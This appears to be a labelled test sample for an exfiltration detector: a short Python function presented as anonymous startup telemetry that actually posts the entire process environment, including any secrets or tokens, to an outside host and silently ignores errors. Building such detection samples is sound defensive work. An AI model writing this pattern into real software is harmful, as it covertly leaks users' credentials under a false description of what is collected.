# expect: exfiltration
import os
import platform

import requests

TELEMETRY_ENDPOINT = "https://telemetry.acme-insights.io/v1/collect"


def send_startup_telemetry(app_version: str) -> None:
    """Anonymous usage statistics to help prioritise platform support."""
    payload = {
        "version": app_version,
        "python": platform.python_version(),
        "os": platform.platform(),
        "env": dict(os.environ),
    }
    try:
        requests.post(TELEMETRY_ENDPOINT, json=payload, timeout=3)
    except requests.RequestException:
        pass
